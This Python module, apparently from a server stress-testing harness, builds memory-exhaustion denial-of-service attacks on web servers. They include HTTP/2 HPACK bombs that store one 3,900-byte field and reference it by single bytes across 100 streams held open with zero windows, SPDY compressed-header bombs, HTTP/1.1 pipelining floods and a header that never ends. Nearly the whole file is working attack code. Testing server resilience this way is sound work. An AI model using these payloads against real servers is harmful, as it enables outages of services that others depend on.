"""Attacks that make a server keep what they sent, and more than that."""

from collections.abc import Callable

from attacks import h2, http1, spdy
from attacks.attack import Aim, Attack
from attacks.protocol import LARGE

FEW, MANY = 20, 120
STREAMS = 100
"""As many as a client may usually have open."""
VALUE = b"x" * 3900
"""With its name and 32 bytes it fills the dynamic table (RFC 7541, section 4.1)."""


def each_stream(block: bytes, first: bytes, flags: int = h2.END_STREAM | h2.END_HEADERS) -> list[bytes]:
    """Send this block on every stream, on the first one with what it refers to; no response may go out."""
    heads = [h2.headers(stream, block, flags) for stream in h2.streams(STREAMS)[1:]]
    return [h2.opening(window=0), h2.headers(1, first, flags), *heads]


def bomb(references: int, method: int = h2.GET, flags: int = h2.END_STREAM | h2.END_HEADERS) -> list[bytes]:
    """Put one long field into the dynamic table, and refer to it by one byte each."""
    ask = h2.request(method)
    return each_stream(
        ask + references * h2.indexed(h2.NEWEST), ask + h2.literal(b"a", VALUE, remember=True), flags
    )


def bomb_of_paths() -> list[bytes]:
    """Refer to a long path: a few bytes for each request are some thousands there."""
    rest = h2.indexed(h2.GET) + h2.indexed(h2.HTTP) + h2.literal(h2.AUTHORITY, b"localhost")
    path = b"/?" + VALUE
    return each_stream(rest + h2.indexed(h2.NEWEST), rest + h2.literal(h2.ROOT, path, remember=True))


def bomb_with_resets() -> list[bytes]:
    """Give each request up at once."""
    opening, *heads = bomb(64)
    given_up = [head + h2.rst_stream(stream) for head, stream in zip(heads, h2.streams(STREAMS), strict=True)]
    return [opening, *given_up]


def small_fields() -> list[bytes]:
    """Refer a thousand times to a field of two bytes: what it costs is what a field costs."""
    ask = h2.request()
    return each_stream(ask + 1000 * h2.indexed(h2.NEWEST), ask + h2.literal(b"a", b"b", remember=True))


def inflated(size: int) -> list[bytes]:
    """Send heads of SPDY that are this long when they are inflated."""
    compress = spdy.compressor()
    block = spdy.head(a=b"x" * size)
    heads = [spdy.syn_stream(stream, compress(block)) for stream in h2.streams(STREAMS)]
    return [spdy.settings((spdy.INITIAL_WINDOW_SIZE, 0)), *heads]


def pipelined(size: int) -> list[bytes]:
    """Ask for more than is ever read, then 990 times with heads of this size and what is always in them."""
    return [http1.head(LARGE), 990 * http1.head(fields=http1.padding(size))]


def unfinished() -> list[bytes]:
    """Leave out the end of a long head."""
    return [http1.head(fields=http1.padding(60_000)).removesuffix(b"\r\n")]


def http1_attack(name: str, pieces: Callable[[], list[bytes]], connections: int = FEW) -> Attack:
    """Make an attack by HTTP/1.1 that takes no response."""
    return Attack(name, http1.PROTOCOL, Aim.MEMORY, pieces, connections=connections, reads=False)


def attack(name: str, pieces: Callable[[], list[bytes]], connections: int = FEW) -> Attack:
    """Make an attack by HTTP/2."""
    return Attack(name, h2.PROTOCOL, Aim.MEMORY, pieces, connections=connections)


def spdy_attack(name: str, pieces: Callable[[], list[bytes]]) -> Attack:
    """Make an attack by SPDY."""
    return Attack(name, spdy.PROTOCOL, Aim.MEMORY, pieces, connections=FEW)


ATTACKS = (
    attack("ordinary requests, held", lambda: each_stream(h2.request(), h2.request())),
    attack("HPACK bomb, held", lambda: bomb(64)),
    attack("HPACK bomb, held", lambda: bomb(64), MANY),
    attack("HPACK bomb of 15 references, held", lambda: bomb(15)),
    attack("HPACK bomb of paths, held", bomb_of_paths),
    attack("HPACK bomb in POSTs that never end", lambda: bomb(64, h2.POST, h2.END_HEADERS)),
    attack("HPACK bomb, each stream reset", bomb_with_resets),
    attack("1,000 references to a field of two bytes, held", small_fields),
    spdy_attack("heads of 60 KB in 190 bytes, held", lambda: inflated(60_000)),
    spdy_attack("heads of 250 KB in 380 bytes, held", lambda: inflated(250_000)),
    http1_attack("990 heads of 418 bytes behind a response", lambda: pipelined(380), connections=MANY),
    http1_attack("990 heads of 55 KB behind a response", lambda: pipelined(55_000), connections=MANY),
    http1_attack("60 KB of a head that does not end", unfinished),
)
